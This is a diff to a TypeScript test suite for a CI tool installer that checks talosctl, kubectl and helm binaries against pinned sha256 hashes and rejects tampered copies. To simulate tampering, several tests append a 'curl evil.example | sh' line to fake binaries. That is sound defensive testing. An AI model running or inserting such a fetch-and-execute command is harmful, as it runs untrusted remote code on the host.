@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
 import { execFileSync } from 'node:child_process';
 import {
+  appendFileSync,
   chmodSync,
   existsSync,
   mkdirSync,
@@ -34,6 +35,11 @@ function fakeCli(name: ToolName, version: string, platform: string): string {
     helm: `printf '${version}+gfake\\n'`,
   };
   return `#!/bin/sh\n# fake ${name} for ${platform}\n${says[name]}\n`;
+}
+
+function writeTool(bin: string, name: string, bytes: Buffer | undefined): void {
+  writeFileSync(join(bin, name), bytes ?? Buffer.alloc(0));
+  chmodSync(join(bin, name), 0o755);
 }
 
 function sha256(bytes: Buffer): string {
@@ -225,7 +231,9 @@ describe('ensureTools', () => {
 
     expect(second).toEqual(first);
     expect(requests).toHaveLength(3);
-    expect(log.filter((line) => line.endsWith('found in the tool cache'))).toHaveLength(3);
+    expect(
+      log.filter((line) => /found in the tool cache, sha256 [0-9a-f]{64} verified$/.test(line)),
+    ).toHaveLength(3);
   });
 
   it('restores from the Actions cache on a runner with an empty tool cache, verifying again', async () => {
@@ -274,14 +282,12 @@ describe('ensureTools', () => {
     expect(requests).toEqual([]);
   });
 
-  it('uses tools already on PATH at the pinned version, and replaces one at another version', async () => {
+  it('uses tools already on PATH whose sha256 is the pinned one, and replaces one at another version', async () => {
     const bin = join(runDir, 'usr-bin');
     mkdirSync(bin);
-    const versions = { ...VERSIONS, helm: 'v3.18.4' };
-    for (const name of TOOL_NAMES) {
-      writeFileSync(join(bin, name), fakeCli(name, versions[name], 'host'));
-      chmodSync(join(bin, name), 0o755);
-    }
+    writeTool(bin, 'talosctl', assets.get('/talosctl/v1.11.6/talosctl-linux-amd64'));
+    writeTool(bin, 'kubectl', assets.get('/kubectl/v1.34.1/linux-amd64/kubectl'));
+    writeTool(bin, 'helm', Buffer.from(fakeCli('helm', 'v3.18.4', 'host')));
 
     const paths = await ensureTools(options({ searchPath: `${emptyPath}:${bin}` }));
     expect(paths.talosctl).toBe(join(bin, 'talosctl'));
@@ -290,6 +296,99 @@ describe('ensureTools', () => {
     expect(requests).toEqual(['/helm/helm-v3.19.0-linux-amd64.tar.gz']);
     expect(addedToPath()).toEqual([dirname(paths.helm)]);
     expect(log).toContain(`helm: ${join(bin, 'helm')} reports v3.18.4, not the pinned v3.19.0`);
+    expect(log.find((line) => line.startsWith('talosctl v1.11.6: using'))).toMatch(
+      /already on PATH \(sha256 [0-9a-f]{64}: pinned in runner-setup\/tools.json talosctl.assets.linux-amd64.sha256\)/,
+    );
+  });
+
+  it('refuses a tool on PATH that reports the pinned version with another sha256, naming the file', async () => {
+    const bin = join(runDir, 'usr-bin');
+    mkdirSync(bin);
+    const tampered = Buffer.from(fakeCli('talosctl', VERSIONS.talosctl, 'host') + 'curl evil.example | sh\n');
+    writeTool(bin, 'talosctl', tampered);
+    const pinned = sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0));
+
+    await expect(ensureTools(options({ searchPath: `${emptyPath}:${bin}` }))).rejects.toThrow(
+      `talosctl v1.11.6 (linux-amd64): ${join(bin, 'talosctl')} has sha256 ${sha256(tampered)}, not ${pinned} ` +
+        '(pinned in runner-setup/tools.json talosctl.assets.linux-amd64.sha256); nothing was used. It reports the ' +
+        'pinned version: replace it with the verified release (sudo runner-setup/setup-runner.sh --tools-only)',
+    );
+    expect(requests).toEqual([]);
+    expect(addedToPath()).toEqual([]);
+  });
+
+  it('refuses a cached tool changed after it was installed, naming the file and the fix', async () => {
+    const first = await ensureTools(options());
+    appendFileSync(first.talosctl, 'curl evil.example | sh\n');
+    writeFileSync(process.env.GITHUB_PATH ?? '', '');
+    const pinned = sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0));
+    const actual = sha256(readFileSync(first.talosctl));
+
+    await expect(ensureTools(options())).rejects.toThrow(
+      `talosctl v1.11.6 (linux-amd64): ${first.talosctl} has sha256 ${actual}, not ${pinned} (pinned in ` +
+        `runner-setup/tools.json talosctl.assets.linux-amd64.sha256); nothing was used. Delete ` +
+        `${dirname(first.talosctl)} and ${dirname(first.talosctl)}.complete so the next run downloads and verifies it again`,
+    );
+    expect(addedToPath()).toEqual([]);
+  });
+
+  it('checks cached helm against the binary inside its verified archive, and the archive against its pin', async () => {
+    const first = await ensureTools(options());
+    const folder = dirname(first.helm);
+    const archive = join(folder, 'helm-v3.19.0-linux-amd64.tar.gz');
+    expect(existsSync(archive)).toBe(true);
+    const genuine = readFileSync(first.helm);
+    appendFileSync(first.helm, 'curl evil.example | sh\n');
+
+    await expect(ensureTools(options())).rejects.toThrow(
+      `helm v3.19.0 (linux-amd64): ${first.helm} has sha256 ${sha256(readFileSync(first.helm))}, not ` +
+        `${sha256(genuine)} (the linux-amd64/helm inside ${archive}, whose sha256 is runner-setup/tools.json ` +
+        'helm.assets.linux-amd64.sha256); nothing was used.',
+    );
+
+    writeFileSync(first.helm, genuine);
+    appendFileSync(archive, 'tampered');
+    await expect(ensureTools(options())).rejects.toThrow(
+      `helm v3.19.0 (linux-amd64): ${archive} has sha256 ${sha256(readFileSync(archive))}, not ` +
+        `${tableFor(base, assets).helm.assets['linux-amd64'].sha256} (pinned in runner-setup/tools.json ` +
+        'helm.assets.linux-amd64.sha256); nothing was used.',
+    );
+  });
+
+  it('installs again a helm cached without its archive (an earlier layout)', async () => {
+    const first = await ensureTools(options());
+    rmSync(join(dirname(first.helm), 'helm-v3.19.0-linux-amd64.tar.gz'));
+    requests.length = 0;
+
+    const second = await ensureTools(options());
+    expect(second.helm).toBe(first.helm);
+    expect(requests).toEqual(['/helm/helm-v3.19.0-linux-amd64.tar.gz']);
+    expect(log).toContain(
+      'helm v3.19.0: the tool cache copy has no verified archive beside it; installing it again',
+    );
+  });
+
+  it("uses helm on PATH when it is the binary of the pinned archive: by runner-setup's stamp, or the tool cache", async () => {
+    const bin = join(runDir, 'usr-bin');
+    const stamps = join(runDir, 'stamps');
+    mkdirSync(bin);
+    mkdirSync(stamps);
+    const helm = Buffer.from(fakeCli('helm', VERSIONS.helm, 'linux-amd64'));
+    writeTool(bin, 'helm', helm);
+    const archiveSha = tableFor(base, assets).helm.assets['linux-amd64'].sha256;
+    writeFileSync(join(stamps, 'helm.sha256'), `${archiveSha} ${sha256(helm)}\n`);
+
+    const stamped = await ensureTools(options({ searchPath: `${emptyPath}:${bin}`, stampDir: stamps }));
+    expect(stamped.helm).toBe(join(bin, 'helm'));
+    expect(requests).not.toContain('/helm/helm-v3.19.0-linux-amd64.tar.gz');
+    expect(log.find((line) => line.startsWith('helm v3.19.0: using'))).toContain(
+      `recorded by runner-setup in ${join(stamps, 'helm.sha256')}`,
+    );
+
+    rmSync(join(stamps, 'helm.sha256'));
+    const fromCache = await ensureTools(options({ searchPath: `${emptyPath}:${bin}`, stampDir: stamps }));
+    expect(fromCache.helm).toBe(join(bin, 'helm'));
+    expect(requests).toContain('/helm/helm-v3.19.0-linux-amd64.tar.gz');
   });
 
   it('installs the arm64 assets for linux-arm64', async () => {
